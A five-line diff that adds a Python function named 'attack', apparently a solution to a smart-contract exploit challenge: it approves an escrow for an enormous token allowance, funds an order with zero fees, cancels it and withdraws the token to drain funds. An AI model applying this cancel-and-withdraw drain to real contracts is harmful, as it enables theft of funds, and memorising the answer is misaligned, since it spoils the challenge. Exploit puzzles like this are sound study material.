@@ -1,0 +1,5 @@
+def attack(game):
+    game.do("approve", game.escrow, 2**128, on="token")
+    game.fund(freight=0, tax=0)
+    game.do("cancel", 2)
+    game.do("withdraw", game.token)
